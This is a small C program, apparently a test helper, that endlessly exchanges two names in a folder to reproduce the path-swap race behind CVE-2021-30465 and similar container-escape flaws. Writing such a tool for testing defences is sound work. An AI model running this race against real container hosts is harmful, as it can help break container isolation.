/* racer: swaps two names of a folder with each other, as fast as it can, until it is killed.
 *
 *   racer FOLDER NAME NAME
 *
 * Plays the second container of a shared volume: while it runs, every name that is resolved twice
 * is two different things (CVE-2021-30465 and its kin).
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int d;

	if (argc != 4) {
		fprintf(stderr, "usage: racer FOLDER NAME NAME\n");
		return 2;
	}
	alarm(1200); /* should nobody kill it */
	d = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (d < 0) {
		perror(argv[1]);
		return 1;
	}
	while (renameat2(d, argv[2], d, argv[3], RENAME_EXCHANGE) == 0)
		;
	perror("racer");
	return 1;
}
